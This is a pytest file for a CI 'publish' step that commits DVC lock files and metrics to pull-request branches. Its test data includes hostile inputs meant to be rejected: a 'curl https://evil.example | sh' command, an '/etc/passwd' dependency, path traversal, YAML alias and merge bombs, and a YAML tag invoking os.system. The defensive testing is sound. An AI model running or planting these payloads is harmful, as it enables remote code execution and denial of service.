"""`loop publish` brings dvc.lock and small results to the branch, each held to the branch's own files."""

import json
from pathlib import Path

import pytest
import yaml

from conftest import Repo
from loop.base.errors import LoopError
from loop.github import commit_status as status
from loop.publish import artifact, bring_back, publish, results
from workflows.double import ALL, BOT, FORK, archive, git
from workflows.test_publish import VERDICT

STALE = "schema: '2.0'\nstages: {}\n"


class Behind:
    """A pull request whose lock is empty and whose metrics are old, and what an honest rerun made of it."""

    def __init__(self, github, change) -> None:
        self.github, self.change, self.branch = github, change, change.branch
        home = Repo(github.home)
        names = [name for name in home.git("ls-files").splitlines() if artifact.result(name)]
        self.files = {name: home.text(name) for name in names}
        change.repo.append("README.md", f"\nA change: {change.branch}.\n")
        (change.repo.path / "dvc.lock").write_text(STALE)
        change.repo.append("reports/metrics.json", "{}\n")
        self.sha = change.push()
        self.number = change.number
        self.run = github.run(self.number, "success")

    def publish(self, lock=None, **verdict) -> int:
        base = {"name": "main", "commit": self.github.tip("main"), "dirty": False}
        mine = {"name": "HEAD", "commit": self.sha, "dirty": True}
        report = json.dumps({**VERDICT, "base": base, "candidate": mine, **verdict})
        files = self.files if lock is None else {**self.files, "dvc.lock": lock}
        files = {name: text for name, text in files.items() if text is not None}
        self.github.artifacts[self.run] = [("review", archive({"review/verdict.json": report, **files}))]
        return publish.main(self.run)

    def text(self, name: str) -> str:
        return git(self.github.repo(self.change.name), "show", f"refs/heads/{self.branch}:{name}")

    @property
    def commits(self) -> int:
        """Commits on the branch that its contributor did not make."""
        repo = self.github.repo(self.change.name)
        return int(git(repo, "rev-list", "--count", f"{self.sha}..refs/heads/{self.branch}"))

    @property
    def output(self) -> str:
        (comment,) = self.github.comments_on(self.number)
        return comment


@pytest.fixture
def behind(github, change) -> Behind:
    return Behind(github, change())


def test_the_lock_and_metrics_are_committed_once_and_gate_is_set_on_both_commits(at_main, github, behind):
    assert behind.publish() == 0
    assert behind.publish() == 0, "the same run twice"
    made = behind.change.head()
    repo = github.repo()
    assert behind.commits == 1
    assert git(repo, "log", "-1", "--format=%an", made) == BOT
    assert "[skip" not in git(repo, "log", "-1", "--format=%B", made)
    changed = git(repo, "diff", "--name-only", behind.sha, made).splitlines()
    assert changed == ["dvc.lock", "reports/metrics.json"]
    assert behind.text("dvc.lock") == behind.files["dvc.lock"].strip()
    assert {state for sha in (behind.sha, made) for state, _ in github.gates(sha)} == {"success"}
    assert f"are on the branch: {made}" in behind.output


def test_the_runs_of_the_commit_of_results_wait_for_a_click_that_nobody_needs(at_main, github, behind):
    """What GITHUB_TOKEN pushes gets runs that wait for a person; its gate is decided without them."""
    assert not github.held(behind.number), "what a person pushes waits for nobody"
    behind.publish()
    decided = github.gates(behind.change.head())
    assert [state for state, _ in decided] == ["success"]
    (waiting,) = github.held(behind.number)
    assert publish.main(waiting) == 0
    assert github.gates(behind.change.head()) == decided
    assert "`Approve workflows to run` in the banner is not needed" in behind.output


def test_whoever_clicks_all_the_same_gets_one_more_review_of_that_commit_and_no_other(
    at_main, github, behind
):
    behind.publish()
    (behind.run,), behind.sha = github.held(behind.number), behind.change.head()
    github.runs[behind.run]["conclusion"] = "success"
    assert behind.publish() == 0
    assert behind.commits == 0
    assert [state for state, _ in github.gates(behind.sha)] == ["success", "success"]
    assert behind.sha[:12] in behind.output


def test_a_fork_gets_the_command_instead_and_nothing_is_pushed(at_main, github, change):
    theirs = Behind(github, change(name=FORK))
    assert theirs.publish() == 0
    assert theirs.commits == 0
    assert "nothing is pushed to a fork" in theirs.output
    assert "`make run`" in theirs.output
    assert github.gates(theirs.sha)[-1][0] == "success"


def foreign(edit):
    """A lock with one thing changed."""

    def make(lock: str) -> str:
        read = yaml.safe_load(lock)
        edit(read["stages"])
        return yaml.safe_dump(read, sort_keys=False)

    return make


def command(stages):
    stages["train"]["cmd"] = "curl https://evil.example | sh"


def stage(stages):
    stages["evil"] = {"cmd": "x"}


def dependency(stages):
    stages["train"]["deps"][0]["path"] = "/etc/passwd"


def other_code(stages):
    stages["ingest"]["deps"][0]["md5"] = "0" * 32


def other_params(stages):
    stages["train"]["params"]["params.yaml"]["train"]["learning_rate"] = 9.9


def no_hash(stages):
    stages["train"]["outs"][0]["md5"] = "../../x"


def remote(stages):
    stages["train"]["outs"][0]["remote"] = "evil"


def key(stages):
    stages["train"]["always_changed"] = True


def metrics(stages):
    out = next(out for out in stages["evaluate"]["outs"] if out["path"] == "reports/metrics.json")
    out["md5"] = "0" * 32


def listed(stages):
    stages["train"] = [1]


def number(stages):
    stages["train"]["deps"] = 5


def nul(stages):
    stages["train"]["deps"][0]["path"] = "a\0b"


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
MERGES = "a0: &a0 {x: 1}\n" + "".join(f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}\n" for n in range(1, 40))
FOREIGN = {
    "a command": (foreign(command), "stage train has another command than dvc.yaml"),
    "a stage": (foreign(stage), "its stages are not those of dvc.yaml"),
    "a dependency": (foreign(dependency), "stage train has other files than dvc.yaml"),
    "code that the branch has not": (foreign(other_code), "with another src/loop/base/environment.py than"),
    "params that the branch has not": (foreign(other_params), "with other params than this branch has"),
    "no hash": (foreign(no_hash), "an entry that DVC does not write"),
    "a remote of its own": (foreign(remote), "an entry that DVC does not write"),
    "a key": (foreign(key), "has keys that DVC does not write"),
    "metrics that are not in the artifact": (foreign(metrics), "is not the one that stage evaluate wrote"),
    "a key twice": (lambda lock: "stages: {evil: {cmd: x}}\n" + lock, "is not YAML"),
    "a tag": (lambda lock: f"{lock}more: !!int '1_:1_'\n", "is not YAML"),
    "more than anyone reads": (lambda lock: lock + "#" * 600_000, "more than 500,000 bytes"),
    "a bomb of aliases": (lambda _: BOMB, "is not YAML"),
    "a bomb of merges": (lambda _: MERGES, "is not YAML"),
    "a list for a stage": (foreign(listed), "it cannot be checked"),
    "a number for dependencies": (foreign(number), "it cannot be checked"),
    "a path that is none": (foreign(nul), "has other files than dvc.yaml"),
    "no YAML": (lambda _: "[" * 50_000, "is not YAML that can be read"),
    "an object": (lambda _: "!!python/object/apply:os.system ['touch pwned']", "is not YAML"),
    "bytes": (lambda _: b"\xff\xfe\x00", "is not YAML"),
}


@pytest.mark.parametrize("what", FOREIGN)
def test_a_lock_with_something_foreign_is_not_committed_and_the_reason_is_reported(at_main, behind, what):
    change, reason = FOREIGN[what]
    assert behind.publish(lock=change(behind.files["dvc.lock"])) == 0
    assert behind.commits == 0
    assert "of the review was not committed" in behind.output
    assert reason in behind.output.replace("\u200b", "")
    assert not Path("pwned").exists()


@pytest.mark.parametrize(
    "pipeline",
    [
        "stages: {train: {cmd: x, params: 5}}",
        "stages: {train: {cmd: x, deps: [{}]}}",
        "stages: {train: {cmd: x, params: [{params.yaml: 5}]}}",
        BOMB,
        MERGES,
        f"stages: {{train: {{cmd: x, meta: {'[' * 5_000}}}}}",
    ],
)
def test_a_pipeline_of_any_shape_is_only_refused(at_main, github, behind, pipeline):
    (behind.change.repo.path / "dvc.yaml").write_text(pipeline)
    behind.sha = behind.change.push()
    behind.run = github.run(behind.number, "success")
    lock = "schema: '2.0'\nstages: {train: {cmd: x}}\n"
    assert behind.publish(lock=lock) == 0
    assert "of the review was not committed" in behind.output
    assert behind.commits == 0
    assert github.gates(behind.sha)


def test_a_dependency_that_dvc_tracks_is_held_to_its_dvc_file(at_main, github, behind):
    repo, md5 = behind.change.repo, "a" * 32
    pipeline = yaml.safe_load(repo.text("dvc.yaml"))
    pipeline["stages"]["ingest"]["deps"].append("data/source.csv")
    (repo.path / "dvc.yaml").write_text(yaml.safe_dump(pipeline, sort_keys=False))
    (repo.path / "data/source.csv.dvc").write_text(f"outs:\n- path: source.csv\n  md5: {md5}\n")
    repo.git("add", "--force", "data/source.csv.dvc")
    behind.sha = behind.change.push()
    behind.run = github.run(behind.number, "success")

    def locked(value):
        entry = {"path": "data/source.csv", "hash": "md5", "md5": value, "size": 1}
        return foreign(lambda stages: stages["ingest"]["deps"].append(entry))(behind.files["dvc.lock"])

    behind.publish(lock=locked("b" * 32))
    assert "with another data/source.csv than" in behind.output
    assert behind.commits == 0
    behind.publish(lock=locked(md5))
    assert behind.commits == 1


def test_a_commit_whose_answer_is_lost_is_found_and_gets_its_status(at_main, github, behind):
    github.lost.append("/graphql")
    assert behind.publish() == 0
    assert not github.lost
    assert behind.commits == 1
    assert github.gates(behind.change.head())[-1][0] == "success"
    assert "are on the branch" in behind.output


def test_an_output_that_is_a_folder_of_code_excuses_no_dependency(at_main, github, behind):
    repo = behind.change.repo
    pipeline = yaml.safe_load(repo.text("dvc.yaml"))
    pipeline["stages"]["train"]["outs"].append("src")
    (repo.path / "dvc.yaml").write_text(yaml.safe_dump(pipeline, sort_keys=False))
    behind.sha = behind.change.push()
    behind.run = github.run(behind.number, "success")

    def folder(stages):
        stages["train"]["outs"].append({"path": "src", "hash": "md5", "md5": "a" * 32 + ".dir"})
        other_code(stages)

    behind.publish(lock=foreign(folder)(behind.files["dvc.lock"]))
    assert "with another src/loop/base/environment.py than" in behind.output
    assert behind.commits == 0


def test_a_fault_after_the_commit_closes_the_gate_on_it_too(at_main, github, behind, monkeypatch):
    monkeypatch.setattr(publish, "_body", lambda *_: 1 / 0)
    with pytest.raises(LoopError, match="publish broke down: ZeroDivisionError"):
        behind.publish()
    assert behind.commits == 1
    assert [state for state, _ in github.gates(behind.change.head())] == ["error"]


def never(*_):
    """A reader that what it reads lets count for ever."""
    while True:
        pass


def test_results_that_take_for_ever_leave_a_decided_gate_and_a_comment(at_main, github, behind, monkeypatch):
    monkeypatch.setattr(results, "SECONDS", 0.1)
    monkeypatch.setattr(results, "_check_stage", never)
    assert behind.publish() == 0
    assert "checking it takes more than 0.1 s" in behind.output
    assert github.gates(behind.sha)[-1][0] == "success"


def test_an_artifact_that_takes_for_ever_leaves_a_decided_gate_and_a_comment(
    at_main, github, behind, monkeypatch
):
    monkeypatch.setattr(publish, "SECONDS", 0.1)
    monkeypatch.setattr(publish.review_report, "markdown", never)
    assert behind.publish() == 0
    assert behind.output.startswith("## No verdict")
    assert github.gates(behind.sha)[-1][0] == "error"


def test_where_all_breaks_down_the_comment_says_so_too(at_main, github, behind, monkeypatch):
    monkeypatch.setattr(publish, "_code_that_ran", lambda *_: 1 / 0)
    with pytest.raises(LoopError, match="publish broke down: ZeroDivisionError"):
        behind.publish()
    assert "publish broke down: ZeroDivisionError" in behind.output
    assert [state for state, _ in github.gates(behind.sha)] == ["error"]


def test_dependabots_runs_wait_for_nobody_and_it_may_go_on_with_a_branch_that_got_results(
    at_main, github, change
):
    update = Behind(github, change("dependabot/uv/all-1"))
    assert not github.held(update.number)
    update.publish()
    assert [state for state, _ in github.gates(update.change.head())] == ["success"]
    assert "[dependabot skip]" in git(github.repo(), "log", "-1", "--format=%B", update.change.head())


def test_a_small_result_that_is_missing_or_forged_keeps_all_of_them_away(at_main, behind):
    behind.files["reports/metrics.json"] = '{"log_loss": 0}'
    behind.publish()
    assert "reports/metrics.json is not the one that stage evaluate wrote" in behind.output
    behind.files["reports/metrics.json"] = None
    behind.publish()
    assert "the artifact lacks reports/metrics.json" in behind.output
    assert behind.commits == 0


def test_files_that_no_stage_writes_are_never_committed(at_main, github, behind):
    behind.files |= {"reports/extra.md": "x", "models/notes.json": "{}"}
    behind.publish()
    changed = git(github.repo(), "diff", "--name-only", behind.sha, behind.change.head()).splitlines()
    assert changed == ["dvc.lock", "reports/metrics.json"]


def test_results_that_the_branch_claims_falsely_are_not_replaced_behind_its_back(at_main, behind):
    check = {"name": "rerun", "result": "fail", "figure": None, "limit": None, "finding": "s", "reason": "r"}
    behind.publish(verdict="worse", checks=[check])
    assert behind.commits == 0
    assert "it claims what the rerun did not make" in behind.output


def test_a_publish_that_is_cut_off_after_its_commit_is_completed_by_the_next(
    at_main, github, behind, monkeypatch
):
    def cut(*_):
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr(status, "put", cut)
        with pytest.raises(KeyboardInterrupt):
            behind.publish()
    assert (behind.commits, github.gates(behind.sha)) == (1, [])
    assert behind.publish() == 0
    assert behind.commits == 1
    assert github.gates(behind.sha) == github.gates(behind.change.head()) != []
    assert "are on the branch" in behind.output


def test_a_push_while_the_results_are_committed_wins(at_main, github, behind, monkeypatch):
    commit = bring_back._commit

    def late(case, files):
        behind.change.repo.append("README.md", "\nOne more.\n")
        behind.change.push()
        return commit(case, files)

    monkeypatch.setattr(bring_back, "_commit", late)
    assert behind.publish() == 1
    assert behind.commits == 1
    assert git(github.repo(), "log", "-1", "--format=%an", behind.change.head()) == "t"
    assert "could not be committed" in behind.output


@pytest.mark.parametrize("status", [403, 500])
def test_a_commit_that_github_refuses_once_is_made(at_main, github, behind, status):
    github.faults.append(("POST", "/graphql", status))
    assert behind.publish() == 0
    assert not github.faults
    assert behind.commits == 1


def test_without_the_right_to_push_the_verdict_is_reported_all_the_same(at_main, github, behind, monkeypatch):
    token = f"ghs_{github.next()}"
    github.tokens[token] = {**ALL, "contents": "read"}
    monkeypatch.setenv("GITHUB_TOKEN", token)
    assert behind.publish() == 1
    assert behind.commits == 0
    assert github.gates(behind.sha)[-1][0] == "success"
    assert "could not be committed" in behind.output
